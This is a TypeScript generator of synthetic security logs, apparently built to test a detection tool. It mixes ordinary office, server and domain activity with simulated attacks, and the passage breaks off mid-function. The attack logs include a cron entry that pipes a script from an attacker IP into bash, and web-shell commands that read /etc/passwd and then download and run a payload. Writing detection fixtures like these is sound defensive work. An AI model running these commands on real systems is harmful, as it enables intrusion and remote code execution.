/**
 * Linux, network and domain-controller scenarios for `vigil eval`, generated from a seed with the
 * noise of ordinary days around each attack: browsing with heavy-tailed gaps, a telemetry timer
 * every workstation shares, NTP, DNS of everyday domains, SSH key logins and sudo by admins, users
 * mistyping passwords, a legacy application's RC4 ticket, a web site's visitors. Attacks are
 * written from how the techniques work (tool defaults, jitter, volumes), not from what Vigil
 * detects. Two benign days carry the look-alikes: an admin day and a backup night.
 *
 * Formats: Zeek JSON (`conn`, `dns`), RFC 3164 syslog with ISO times (`auth.log`), NXLog-style
 * Windows JSON (Security, Sysmon), NCSA Combined access logs.
 */
import type { ScenarioFiles } from './write-scenario.js';

/** mulberry32: a small seeded generator, so the same seed writes the same files. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let value = state;
    value = Math.imul(value ^ (value >>> 15), value | 1);
    value ^= value + Math.imul(value ^ (value >>> 7), value | 61);
    return ((value ^ (value >>> 14)) >>> 0) / 4_294_967_296;
  };
}

type Random = () => number;
const pick = <T>(random: Random, items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
const exponential = (random: Random, mean: number) => -Math.log(1 - random()) * mean;
const minute = 60_000;
const hour = 60 * minute;

const workstations = Array.from({ length: 12 }, (_, index) => `10.20.0.${11 + index}`);
const publicSites = [
  ['www.wikipedia.org', '198.51.100.11'],
  ['news.example.com', '198.51.100.12'],
  ['mail.example-provider.com', '198.51.100.13'],
  ['cdn.example-static.net', '198.51.100.14'],
  ['api.example-crm.com', '198.51.100.15'],
  ['docs.example-office.com', '198.51.100.16'],
  ['www.example-bank.com', '198.51.100.17'],
  ['video.example-stream.tv', '198.51.100.18'],
] as const;

/** Zeek JSON lines, one record per line, sorted by time. */
class ZeekLog {
  private readonly records: { ts: number; line: string }[] = [];
  private uid = 0;
  add(time: number, record: Record<string, unknown>): void {
    this.uid += 1;
    const ts = time / 1000;
    this.records.push({
      ts,
      line: JSON.stringify({ ts, uid: `C${this.uid.toString(36).padStart(8, '0')}`, ...record }),
    });
  }
  text(): string {
    return `${this.records
      .sort((left, right) => left.ts - right.ts)
      .map((record) => record.line)
      .join('\n')}\n`;
  }
  get size(): number {
    return this.records.length;
  }
}

function connection(
  log: ZeekLog,
  time: number,
  source: string,
  destination: string,
  port: number,
  service: string,
  out: number,
  received: number,
  random: Random,
): void {
  log.add(time, {
    'id.orig_h': source,
    'id.orig_p': 49_152 + Math.floor(random() * 16_000),
    'id.resp_h': destination,
    'id.resp_p': port,
    proto: port === 53 || port === 123 ? 'udp' : 'tcp',
    service,
    duration: Math.round(random() * 5_000) / 1000,
    orig_bytes: Math.round(out),
    resp_bytes: Math.round(received),
    conn_state: 'SF',
  });
}

function dns(
  log: ZeekLog,
  time: number,
  source: string,
  query: string,
  type: string,
  answer: string,
  random: Random,
): void {
  log.add(time, {
    'id.orig_h': source,
    'id.orig_p': 49_152 + Math.floor(random() * 16_000),
    'id.resp_h': '10.20.0.2',
    'id.resp_p': 53,
    proto: 'udp',
    query,
    qtype_name: type,
    rcode_name: 'NOERROR',
    answers: [answer],
  });
}

/** A day of office network traffic: browsing, DNS, NTP, a shared telemetry timer, updates. */
function officeNetwork(random: Random, start: number, hours: number, conn: ZeekLog, dnsLog: ZeekLog): void {
  const end = start + hours * hour;
  for (const host of workstations) {
    // Browsing: bursts of page loads separated by heavy-tailed pauses.
    for (let time = start + random() * 20 * minute; time < end; time += exponential(random, 6 * minute) + 5_000) {
      const [name, address] = pick(random, publicSites);
      dns(dnsLog, time, host, name, 'A', address, random);
      const pages = 1 + Math.floor(random() * 4);
      for (let page = 0; page < pages; page++)
        connection(
          conn,
          time + page * (200 + random() * 3_000),
          host,
          address,
          443,
          'ssl',
          800 + random() * 4_000,
          20_000 + random() * 900_000,
          random,
        );
    }
    // The endpoint agent every workstation runs checks in every 15 minutes (a benign shared timer).
    for (let time = start + random() * 15 * minute; time < end; time += 15 * minute + (random() - 0.5) * 20_000)
      connection(conn, time, host, '203.0.113.250', 443, 'ssl', 1_500 + random() * 300, 4_000 + random() * 500, random);
    for (let time = start + random() * hour; time < end; time += hour + random() * 5 * minute)
      connection(conn, time, host, '10.20.0.2', 123, 'ntp', 48, 48, random);
  }
  // Reputation look-ups of the anti-virus: random-looking names, every host.
  const alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789';
  for (let time = start; time < end; time += exponential(random, 40_000)) {
    const host = pick(random, workstations);
    const hash = Array.from({ length: 32 }, () => pick(random, [...alphabet])).join('');
    dns(dnsLog, time, host, `${hash}.f.av-cloud-lookup.example`, 'A', '127.0.0.2', random);
  }
}

const syslogTime = (time: number) => new Date(time).toISOString().replace('.000Z', '+00:00');

class SyslogLog {
  private readonly lines: { time: number; line: string }[] = [];
  private pid = 1000;
  add(time: number, host: string, program: string, message: string, pid = true): void {
    this.pid += 1 + (this.pid % 7);
    this.lines.push({ time, line: `${syslogTime(time)} ${host} ${program}${pid ? `[${this.pid}]` : ''}: ${message}` });
  }
  text(): string {
    return `${this.lines
      .sort((left, right) => left.time - right.time)
      .map((entry) => entry.line)
      .join('\n')}\n`;
  }
}

const admins = ['m.keller', 'j.osei'];

/** A Linux server's ordinary auth log: admins' key logins, sudo, cron, the odd mistyped password. */
function linuxServerDay(random: Random, log: SyslogLog, host: string, start: number, hours: number): void {
  const end = start + hours * hour;
  for (let time = start + 10 * minute; time < end; time += exponential(random, 50 * minute) + minute) {
    const admin = pick(random, admins);
    const from = `10.20.1.${20 + Math.floor(random() * 5)}`;
    if (random() < 0.15)
      log.add(
        time - 8_000,
        host,
        'sshd',
        `Failed password for ${admin} from ${from} port ${40_000 + Math.floor(random() * 9_000)} ssh2`,
      );
    log.add(
      time,
      host,
      'sshd',
      `Accepted publickey for ${admin} from ${from} port ${40_000 + Math.floor(random() * 9_000)} ssh2: ED25519 SHA256:${Math.floor(random() * 1e9).toString(36)}`,
    );
    log.add(
      time + 1_000,
      host,
      'sshd',
      `pam_unix(sshd:session): session opened for user ${admin}(uid=1001) by (uid=0)`,
    );
    if (random() < 0.6) {
      const command = pick(random, [
        '/usr/bin/systemctl restart nginx',
        '/usr/bin/apt-get update',
        '/usr/bin/journalctl -u nginx',
        '/usr/bin/tail -n 100 /var/log/nginx/error.log',
      ]);
      log.add(
        time + 30_000,
        host,
        'sudo',
        `  ${admin} : TTY=pts/0 ; PWD=/home/${admin} ; USER=root ; COMMAND=${command}`,
        false,
      );
    }
    log.add(
      time + 20 * minute * random() + 60_000,
      host,
      'sshd',
      `pam_unix(sshd:session): session closed for user ${admin}`,
    );
  }
  for (let time = start; time < end; time += 5 * minute)
    log.add(time + 1_000, host, 'CRON', '(root) CMD (/usr/lib/sysstat/sa1 1 1)');
  // Internet scanners: a few failures for common names, never a burst, never a success.
  for (let time = start; time < end; time += exponential(random, 20 * minute)) {
    const scanner = `192.0.2.${Math.floor(random() * 200) + 1}`;
    log.add(
      time,
      host,
      'sshd',
      `Invalid user ${pick(random, ['test', 'oracle', 'pi', 'ubuntu'])} from ${scanner} port ${30_000 + Math.floor(random() * 30_000)}`,
    );
  }
}

/** NXLog-style JSON lines of Windows events. */
class WindowsLog {
  private readonly lines: { time: number; line: string }[] = [];
  private record = 500_000;
  add(
    time: number,
    host: string,
    eventId: number,
    channel: string,
    source: string,
    fields: Record<string, unknown>,
  ): void {
    this.record += 1;
    const iso = new Date(time).toISOString();
    this.lines.push({
      time,
      line: JSON.stringify({
        EventTime: iso.slice(0, 19).replace('T', ' '),
        '@timestamp': iso,
        Hostname: host,
        EventID: eventId,
        SourceName: source,
        Channel: channel,
        RecordNumber: this.record,
        Keywords:
          channel === 'Security'
            ? fields.Status && fields.Status !== '0x0'
              ? '0x8010000000000000'
              : '0x8020000000000000'
            : '0x8000000000000000',
        ...fields,
      }),
    });
  }
  security(time: number, host: string, eventId: number, fields: Record<string, unknown>): void {
    this.add(time, host, eventId, 'Security', 'Microsoft-Windows-Security-Auditing', fields);
  }
  text(): string {
    return `${this.lines
      .sort((left, right) => left.time - right.time)
      .map((entry) => entry.line)
      .join('\n')}\n`;
  }
}

const domainUsers = Array.from({ length: 60 }, (_, index) => `user${String(index + 1).padStart(2, '0')}`);
const services = [
  'HTTP/intranet.corp.example',
  'CIFS/fs01.corp.example',
  'MSSQLSvc/db01.corp.example:1433',
  'HTTP/crm.corp.example',
];

/** A domain controller's ordinary day: logons, Kerberos tickets (AES), users mistyping, one legacy RC4 application. */
function domainControllerDay(random: Random, log: WindowsLog, start: number, hours: number): void {
  const end = start + hours * hour;
  for (let time = start; time < end; time += exponential(random, 40_000)) {
    const user = pick(random, domainUsers);
    const address = `::ffff:${pick(random, workstations)}`;
    if (random() < 0.05) {
      log.security(time - 3_000, 'DC01.corp.example', 4771, {
        TargetUserName: user,
        TargetSid: `S-1-5-21-1-2-3-${1100 + domainUsers.indexOf(user)}`,
        ServiceName: 'krbtgt/CORP',
        IpAddress: address,
        Status: '0x18',
        PreAuthType: '2',
      });
    }
    log.security(time, 'DC01.corp.example', 4768, {
      TargetUserName: user,
      TargetDomainName: 'CORP',
      ServiceName: 'krbtgt',
      IpAddress: address,
      Status: '0x0',
      TicketEncryptionType: '0x12',
      PreAuthType: '2',
    });
    log.security(time + 500, 'DC01.corp.example', 4769, {
      TargetUserName: `${user}@CORP.EXAMPLE`,
      ServiceName: pick(random, services),
      IpAddress: address,
      Status: '0x0',
      TicketEncryptionType: '0x12',
      TicketOptions: '0x40810000',
    });
    log.security(time + 900, 'DC01.corp.example', 4624, {
      TargetUserName: user,
      TargetDomainName: 'CORP',
      LogonType: '3',
      IpAddress: address.slice(7),
      AuthenticationPackageName: 'Kerberos',
      TargetLogonId: `0x${Math.floor(random() * 0xffffff).toString(16)}`,
    });
  }
  // The old reporting application asks for its one RC4 ticket every 10 minutes.
  for (let time = start; time < end; time += 10 * minute)
    log.security(time + 2_000, 'DC01.corp.example', 4769, {
      TargetUserName: 'svc_reports@CORP.EXAMPLE',
      ServiceName: 'MSSQLSvc/legacy-db.corp.example:1433',
      IpAddress: '::ffff:10.20.2.40',
      Status: '0x0',
      TicketEncryptionType: '0x17',
      TicketOptions: '0x40810000',
    });
}

const base = Date.parse('2025-03-03T07:00:00Z');
const accessTime = (time: number) => {
  const date = new Date(time);
  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
  const pad = (value: number) => String(value).padStart(2, '0');
  return `${pad(date.getUTCDate())}/${months[date.getUTCMonth()]}/${date.getUTCFullYear()}:${pad(date.getUTCHours())}:${pad(date.getUTCMinutes())}:${pad(date.getUTCSeconds())} +0000`;
};
const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148',
];

class AccessLog {
  private readonly lines: { time: number; line: string }[] = [];
  add(
    time: number,
    client: string,
    method: string,
    uri: string,
    status: number,
    bytes: number,
    agent: string,
    referer = '-',
  ): void {
    this.lines.push({
      time,
      line: `${client} - - [${accessTime(time)}] "${method} ${uri} HTTP/1.1" ${status} ${bytes} "${referer}" "${agent}"`,
    });
  }
  text(): string {
    return `${this.lines
      .sort((left, right) => left.time - right.time)
      .map((entry) => entry.line)
      .join('\n')}\n`;
  }
}

/**
 * A visitor's address, from consumer ISP ranges: not the documentation ranges the attack
 * infrastructure of the other scenarios uses, so a sequence of scenarios shares no address by chance.
 */
function visitor(random: Random): string {
  const first = pick(random, [78, 81, 84, 87, 91, 93, 95, 109, 151, 176, 188]);
  const part = () => Math.floor(random() * 254) + 1;
  return `${first}.${part()}.${part()}.${part()}`;
}

/** A shop's visitors: pages, searches, a cart, static files, a crawler, scanners that get 404. */
function websiteDay(random: Random, log: AccessLog, start: number, hours: number): void {
  const pages = [
    '/',
    '/index.php',
    '/products.php?id=12',
    '/products.php?id=31',
    '/search.php?q=boots',
    '/cart.php',
    '/contact.php',
    '/about.php',
    '/wp-content/themes/shop/style.css',
    '/wp-content/uploads/2025/02/banner.jpg',
  ];
  const end = start + hours * hour;
  for (let time = start; time < end; time += exponential(random, 8_000)) {
    const client = visitor(random);
    const uri = pick(random, pages);
    const method = uri === '/cart.php' && random() < 0.4 ? 'POST' : 'GET';
    log.add(
      time,
      client,
      method,
      uri,
      200,
      500 + Math.floor(random() * 40_000),
      pick(random, agents),
      'https://shop.example/',
    );
  }
  for (let time = start; time < end; time += exponential(random, 25 * minute)) {
    const scanner = `192.0.2.${Math.floor(random() * 200) + 1}`;
    for (const probe of ['/wp-login.php', '/xmlrpc.php', '/shell.php?cmd=id', '/.env', '/admin/config.php'])
      log.add(time + random() * 2_000, scanner, 'GET', probe, 404, 162, 'Mozilla/5.0 zgrab/0.x');
  }
}

function scenario(
  id: string,
  kind: 'attack' | 'benign',
  description: string,
  files: Record<string, string>,
  truth: { techniques?: string[]; tactics?: string[]; hosts?: string[]; users?: string[]; ips?: string[] } = {},
  assets?: string,
): ScenarioFiles {
  return {
    scenario: {
      id,
      description,
      kind,
      logs: Object.keys(files).map((path) => ({ path, format: 'auto' })),
      intel: [],
      ...(assets ? { assets: { path: 'assets.yaml' } } : {}),
      truth: {
        techniques: truth.techniques ?? [],
        tactics: truth.tactics ?? [],
        entities: { hosts: truth.hosts ?? [], users: truth.users ?? [], ips: truth.ips ?? [] },
        indicators: [],
        forbidden_actions: [],
      },
    },
    files: assets ? { ...files, 'assets.yaml': assets } : files,
  };
}

/** A Linux administrator of web01 and db01, from the admin network, on weekdays. */
const linuxAdmin = (account: string) =>
  [
    `  - account: ${account}`,
    '    role: admin',
    '    hosts: [web01, db01]',
    '    sources: [10.20.1.0/24]',
    '    changeWindows:',
    '      - days: [mon, tue, wed, thu, fri]',
    '        from: "06:00"',
    '        to: "20:00"',
  ].join('\n');

/**
 * The organisation's asset inventory for the Linux and Windows servers of these scenarios: who the
 * administrators are (their accounts, the servers they administer, the admin network they work
 * from, their change window), as a user declares them. `extra` adds accounts.
 */
function serverInventory(extra: string[] = []): string {
  return `${[
    '# Hosts and who administers them (asset inventory: vigil --assets FILE).',
    'assets:',
    '  - host: web01',
    '    criticality: high',
    '    role: web server',
    '  - host: db01',
    '    criticality: high',
    '    role: database server',
    '  - host: APP01',
    '    criticality: medium',
    '    role: application server',
    '  - host: APP02',
    '    criticality: medium',
    '    role: application server',
    '  - host: FS01',
    '    criticality: high',
    '    role: file server',
    'identities:',
    linuxAdmin('m.keller'),
    linuxAdmin('j.osei'),
    '  - account: CORP\\adm.keller',
    '    role: admin',
    '    assetRoles: [application server, file server]',
    '    sources: [10.20.1.21]',
    ...extra,
  ].join('\n')}\n`;
}

function sshBruteForceThenPersistence(random: Random): ScenarioFiles {
  const log = new SyslogLog();
  linuxServerDay(random, log, 'web01', base, 10);
  const attacker = '203.0.113.45';
  let time = base + 3 * hour + 17 * minute;
  // Hydra-like: several tries a second at first, then slower, against a list of names.
  for (let attempt = 0; attempt < 140; attempt++) {
    time += 400 + random() * 2_500;
    const user = pick(random, ['root', 'admin', 'deploy', 'ubuntu', 'git']);
    log.add(
      time,
      'web01',
      'sshd',
      user === 'git' || user === 'ubuntu'
        ? `Invalid user ${user} from ${attacker} port ${40_000 + attempt}`
        : `Failed password for ${user} from ${attacker} port ${40_000 + attempt} ssh2`,
    );
  }
  time += 3_000;
  log.add(time, 'web01', 'sshd', `Accepted password for deploy from ${attacker} port 41890 ssh2`);
  log.add(time + 500, 'web01', 'sshd', 'pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)');
  log.add(
    time + 40_000,
    'web01',
    'sudo',
    '  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash',
    false,
  );
  log.add(
    time + 95_000,
    'web01',
    'useradd',
    'new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1',
  );
  log.add(
    time + 140_000,
    'web01',
    'sudo',
    '  deploy : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys',
    false,
  );
  log.add(time + 200_000, 'web01', 'crontab', '(root) REPLACE (root)');
  log.add(time + 260_000, 'web01', 'CRON', '(root) CMD (/bin/bash -c "curl -s http://203.0.113.45/u.sh | bash")');
  return scenario(
    'linux-ssh-brute-force-persistence',
    'attack',
    'SSH password guessing against web01 from 203.0.113.45, a guessed login for deploy, then root shell, a UID-0 account, an SSH key and a cron job that fetches a script',
    { 'logs/auth.log': log.text() },
    {
      techniques: ['T1110.001', 'T1078', 'T1548.003', 'T1136.001', 'T1098.004', 'T1053.003'],
      tactics: ['TA0006', 'TA0001', 'TA0004', 'TA0003'],
      hosts: ['web01'],
      users: ['deploy'],
      ips: [attacker],
    },
    // A look-alike: the guessed account is a declared administrator of web01 (from the admin network only).
    serverInventory([linuxAdmin('deploy')]),
  );
}

function passwordSpray(random: Random): ScenarioFiles {
  const log = new WindowsLog();
  domainControllerDay(random, log, base, 8);
  const sprayer = '10.20.0.77';
  let time = base + 2 * hour + 5 * minute;
  // One password (Spring2025!) tried once per account, slowly, to stay under lockout.
  const targets = [...domainUsers].sort(() => random() - 0.5).slice(0, 45);
  for (const user of targets) {
    time += 3_000 + random() * 9_000;
    log.security(time, 'DC01.corp.example', 4771, {
      TargetUserName: user,
      ServiceName: 'krbtgt/CORP',
      IpAddress: `::ffff:${sprayer}`,
      Status: '0x18',
      PreAuthType: '2',
    });
  }
  const cracked = targets[17] as string;
  time += 20_000;
  log.security(time, 'DC01.corp.example', 4768, {
    TargetUserName: cracked,
    TargetDomainName: 'CORP',
    ServiceName: 'krbtgt',
    IpAddress: `::ffff:${sprayer}`,
    Status: '0x0',
    TicketEncryptionType: '0x12',
    PreAuthType: '2',
  });
  log.security(time + 800, 'DC01.corp.example', 4624, {
    TargetUserName: cracked,
    TargetDomainName: 'CORP',
    LogonType: '3',
    IpAddress: sprayer,
    AuthenticationPackageName: 'Kerberos',
    TargetLogonId: '0x9a1f3c',
  });
  return scenario(
    'windows-password-spray',
    'attack',
    `One password tried against 45 domain accounts from ${sprayer} (Kerberos pre-authentication failures at DC01), then a logon with the account it worked for (${cracked})`,
    { 'logs/dc01-security.jsonl': log.text() },
    {
      techniques: ['T1110.003', 'T1078'],
      tactics: ['TA0006', 'TA0001'],
      hosts: ['DC01.corp.example'],
      users: [cracked],
      ips: [sprayer],
    },
  );
}

function kerberoasting(random: Random): ScenarioFiles {
  const log = new WindowsLog();
  domainControllerDay(random, log, base, 8);
  let time = base + 4 * hour + 12 * minute;
  // Rubeus / GetUserSPNs: one RC4 ticket per service account with an SPN, in a few seconds.
  for (const service of ['svc_sql', 'svc_sharepoint', 'svc_backup', 'svc_iis', 'svc_sccm', 'svc_adfs']) {
    time += 200 + random() * 900;
    log.security(time, 'DC01.corp.example', 4769, {
      TargetUserName: 'user23@CORP.EXAMPLE',
      ServiceName: service,
      IpAddress: '::ffff:10.20.0.55',
      Status: '0x0',
      TicketEncryptionType: '0x17',
      TicketOptions: '0x40810000',
    });
  }
  return scenario(
    'windows-kerberoasting',
    'attack',
    'user23 on 10.20.0.55 requests RC4 service tickets for six service accounts within seconds (Kerberoasting)',
    { 'logs/dc01-security.jsonl': log.text() },
    {
      techniques: ['T1558.003'],
      tactics: ['TA0006'],
      hosts: ['DC01.corp.example'],
      users: ['user23'],
      ips: ['10.20.0.55'],
    },
  );
}

function dnsTunnel(random: Random): ScenarioFiles {
  const conn = new ZeekLog();
  const dnsLog = new ZeekLog();
  officeNetwork(random, base, 8, conn, dnsLog);
  const host = '10.20.0.19';
  const alphabet = 'abcdefghijklmnopqrstuvwxyz234567';
  // iodine/dnscat-like: base32 chunks of a file in the query name, TXT answers carrying the downstream.
  let time = base + 5 * hour;
  for (let chunk = 0; chunk < 700; chunk++) {
    time += 800 + random() * 3_000;
    const payload = Array.from({ length: 56 }, () => pick(random, [...alphabet])).join('');
    dns(
      dnsLog,
      time,
      host,
      `${payload.slice(0, 40)}.${payload.slice(40)}.${chunk.toString(16)}.d.sync-cdn-telemetry.net`,
      random() < 0.7 ? 'TXT' : 'CNAME',
      'v=1',
      random,
    );
  }
  return scenario(
    'network-dns-tunnel',
    'attack',
    `${host} sends data out in base32 DNS names under sync-cdn-telemetry.net (TXT and CNAME queries), among an office day's traffic`,
    { 'logs/conn.log': conn.text(), 'logs/dns.log': dnsLog.text() },
    { techniques: ['T1071.004', 'T1048'], tactics: ['TA0011', 'TA0010'], ips: [host] },
  );
}

function jitteredBeacon(random: Random): ScenarioFiles {
  const conn = new ZeekLog();
  const dnsLog = new ZeekLog();
  officeNetwork(random, base, 10, conn, dnsLog);
  const host = '10.20.0.14';
  // A C2 implant: 5-minute sleep with 40% jitter, small check-ins, an occasional task with a bigger answer.
  let time = base + 1 * hour + 7 * minute;
  dns(dnsLog, time - 500, host, 'static.cloud-metrics-cdn.com', 'A', '198.51.100.73', random);
  while (time < base + 10 * hour) {
    connection(
      conn,
      time,
      host,
      '198.51.100.73',
      443,
      'ssl',
      300 + random() * 400,
      random() < 0.08 ? 40_000 : 600 + random() * 300,
      random,
    );
    time += 300_000 * (1 - 0.4 * random());
  }
  return scenario(
    'network-jittered-https-beacon',
    'attack',
    `${host} checks in with 198.51.100.73:443 every 3–5 minutes (40% jitter) for nine hours among office traffic and a shared telemetry timer`,
    { 'logs/conn.log': conn.text(), 'logs/dns.log': dnsLog.text() },
    { techniques: ['T1071.001', 'T1573'], tactics: ['TA0011'], ips: [host, '198.51.100.73'] },
  );
}

function bulkExfiltration(random: Random): ScenarioFiles {
  const conn = new ZeekLog();
  const dnsLog = new ZeekLog();
  officeNetwork(random, base, 8, conn, dnsLog);
  const host = '10.20.0.21';
  // rclone-like: parallel uploads of 64 MB parts to one server for 40 minutes.
  let time = base + 6 * hour + 30 * minute;
  for (let part = 0; part < 48; part++) {
    time += 30_000 + random() * 40_000;
    connection(
      conn,
      time,
      host,
      '203.0.113.200',
      443,
      'ssl',
      64 * 1024 * 1024 * (0.9 + random() * 0.2),
      90_000 + random() * 40_000,
      random,
    );
  }
  return scenario(
    'network-bulk-exfiltration',
    'attack',
    `${host} uploads about 3 GB in 64 MB parts to 203.0.113.200:443 in 40 minutes`,
    { 'logs/conn.log': conn.text(), 'logs/dns.log': dnsLog.text() },
    { techniques: ['T1048.002'], tactics: ['TA0010'], ips: [host, '203.0.113.200'] },
  );
}

function webShell(random: Random): ScenarioFiles {
  const log = new AccessLog();
  websiteDay(random, log, base, 10);
  const attacker = '203.0.113.90';
  let time = base + 4 * hour + 41 * minute;
  log.add(time, attacker, 'POST', '/wp-content/plugins/easy-upload/upload.php', 200, 87, 'python-requests/2.31.0');
  for (const command of [
    'id',
    'uname -a',
    'cat /etc/passwd',
    'ls -la /var/www',
    'wget http://203.0.113.90/k -O /tmp/k',
    'chmod +x /tmp/k',
    '/tmp/k',
  ]) {
    time += 20_000 + random() * 60_000;
    log.add(
      time,
      attacker,
      'GET',
      `/wp-content/uploads/2025/03/thumb.php?c=${encodeURIComponent(command)}`,
      200,
      40 + Math.floor(random() * 2_000),
      'python-requests/2.31.0',
    );
  }
  return scenario(
    'web-shell-in-access-log',
    'attack',
    `${attacker} uploads thumb.php through a vulnerable upload plugin and runs shell commands through it`,
    { 'logs/access.log': log.text() },
    { techniques: ['T1505.003', 'T1059.004'], tactics: ['TA0003', 'TA0002'], ips: [attacker] },
  );
}

function ransomwareRenames(random: Random): ScenarioFiles {
  const log = new WindowsLog();
  const host = 'FS01.corp.example';
  const shares = [
    'D:\\Shares\\Finance',
    'D:\\Shares\\HR',
    'D:\\Shares\\Sales',
    'D:\\Shares\\Projects\\2024',
    'D:\\Shares\\Projects\\2025',
  ];
  const types = ['docx', 'xlsx', 'pdf', 'pptx', 'jpg', 'csv'];
  const sysmon = (time: number, image: string, path: string, guid: string) =>
    log.add(time, host, 11, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', {
      UtcTime: new Date(time).toISOString().replace('T', ' ').slice(0, 23),
      ProcessGuid: guid,
      ProcessId: 4242,
      Image: image,
      TargetFilename: path,
      User: 'CORP\\svc_backup',
    });
  // Ordinary file server work: Office saves, temp files, a nightly copy job earlier.
  for (let time = base; time < base + 9 * hour; time += exponential(random, 40_000)) {
    const share = pick(random, shares);
    const name = `doc${Math.floor(random() * 400)}.${pick(random, types)}`;
    sysmon(time, 'C:\\Windows\\System32\\svchost.exe', `${share}\\${name}`, '{11111111-2222-3333-4444-555555555555}');
    if (random() < 0.3)
      sysmon(
        time + 50,
        'C:\\Windows\\System32\\svchost.exe',
        `${share}\\~$${name}`,
        '{11111111-2222-3333-4444-555555555555}',
      );
  }
  let time = base + 8 * hour + 3 * minute;
  const image = 'C:\\ProgramData\\svchostt.exe';
  for (const share of shares) {
    sysmon(time, image, `${share}\\HOW_TO_RESTORE_FILES.txt`, '{99999999-8888-7777-6666-555555555555}');
    for (let index = 0; index < 90; index++) {
      time += 40 + random() * 250;
      sysmon(
        time,
        image,
        `${share}\\doc${index}.${pick(random, types)}.kraken`,
        '{99999999-8888-7777-6666-555555555555}',
      );
    }
  }
  return scenario(
    'windows-ransomware-mass-rename',
    'attack',
    `${image} on FS01 rewrites 450 files in five shares as *.kraken and drops HOW_TO_RESTORE_FILES.txt in each`,
    { 'logs/fs01-sysmon.jsonl': log.text() },
    { techniques: ['T1486'], tactics: ['TA0040'], hosts: [host] },
  );
}

function benignAdminDay(random: Random): ScenarioFiles {
  const auth = new SyslogLog();
  linuxServerDay(random, auth, 'web01', base, 10);
  linuxServerDay(random, auth, 'db01', base, 10);
  // The admin's real work: a new colleague's account, a cron job for a report, a key for the deploy user.
  const day = base + 3 * hour;
  auth.add(day, 'db01', 'sshd', 'Failed password for m.keller from 10.20.1.21 port 50122 ssh2');
  auth.add(day + 6_000, 'db01', 'sshd', 'Failed password for m.keller from 10.20.1.21 port 50122 ssh2');
  auth.add(day + 15_000, 'db01', 'sshd', 'Accepted password for m.keller from 10.20.1.21 port 50131 ssh2');
  auth.add(
    day + 60_000,
    'db01',
    'sudo',
    '  m.keller : TTY=pts/0 ; PWD=/home/m.keller ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash a.novak',
    false,
  );
  auth.add(
    day + 61_000,
    'db01',
    'useradd',
    'new user: name=a.novak, UID=1005, GID=1005, home=/home/a.novak, shell=/bin/bash, from=/dev/pts/0',
  );
  auth.add(day + 120_000, 'db01', 'crontab', '(root) BEGIN EDIT (root)');
  auth.add(day + 180_000, 'db01', 'crontab', '(root) REPLACE (root)');
  auth.add(day + 181_000, 'db01', 'crontab', '(root) END EDIT (root)');
  auth.add(
    day + 240_000,
    'web01',
    'sudo',
    '  j.osei : TTY=pts/2 ; PWD=/home/j.osei ; USER=root ; COMMAND=/usr/bin/tee -a /home/deploy/.ssh/authorized_keys',
    false,
  );
  const dc = new WindowsLog();
  domainControllerDay(random, dc, base, 9);
  // Monday morning: people who forgot their password after the weekend, each a few times.
  for (let index = 0; index < 14; index++) {
    const user = domainUsers[index * 3] as string;
    const address = `::ffff:${workstations[index % workstations.length]}`;
    for (let attempt = 0; attempt < 1 + Math.floor(random() * 3); attempt++)
      dc.security(base + 20 * minute + index * 90_000 + attempt * 8_000, 'DC01.corp.example', 4771, {
        TargetUserName: user,
        ServiceName: 'krbtgt/CORP',
        IpAddress: address,
        Status: '0x18',
        PreAuthType: '2',
      });
  }
  // The admin manages servers over WinRM and RDP.
  const servers = ['APP01.corp.example', 'APP02.corp.example', 'FS01.corp.example'];
  const servers_ = new WindowsLog();
  for (let index = 0; index < 9; index++) {
    const server = servers[index % servers.length] as string;
    const time = base + hour + index * 47 * minute;
    servers_.security(time, server, 4624, {
      TargetUserName: 'adm.keller',
      TargetDomainName: 'CORP',
      LogonType: index % 3 === 0 ? '10' : '3',
      IpAddress: '10.20.1.21',
      AuthenticationPackageName: 'Kerberos',
      TargetLogonId: `0x${(0x51000 + index).toString(16)}`,
    });
    const program = pick(random, [
      ['gpupdate.exe', 'gpupdate.exe /force'],
      ['sc.exe', 'sc.exe query wuauserv'],
      ['msiexec.exe', 'msiexec.exe /i \\\\fs01\\software\\agent-7.2.msi /qn'],
    ]);
    servers_.add(time + 20_000, server, 1, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', {
      ProcessGuid: `{AAAA0000-0000-0000-0000-${String(index).padStart(12, '0')}}`,
      ProcessId: 3000 + index,
      Image: `C:\\Windows\\System32\\${program[0]}`,
      CommandLine: program[1],
      ParentImage: 'C:\\Windows\\System32\\wsmprovhost.exe',
      ParentProcessId: 2000 + index,
      User: 'CORP\\adm.keller',
    });
  }
  const conn = new ZeekLog();
  const dnsLog = new ZeekLog();
  officeNetwork(random, base, 10, conn, dnsLog);
  const web = new AccessLog();
  websiteDay(random, web, base, 10);
  // A new page goes live and visitors browse it.
  for (let index = 0; index < 60; index++)
    web.add(
      base + 5 * hour + index * 45_000,
      visitor(random),
      'GET',
      '/spring-sale.php?item=7',
      200,
      12_000,
      pick(random, agents),
    );
  return scenario(
    'benign-admin-day',
    'benign',
    'An administrator day: key and password logins with typos, sudo, a new account, a cron edit, an SSH key for deploy, WinRM and RDP to servers, users mistyping passwords on Monday morning, a legacy RC4 application, a new web page, office traffic with a shared agent timer',
    {
      'logs/auth.log': auth.text(),
      'logs/dc01-security.jsonl': dc.text(),
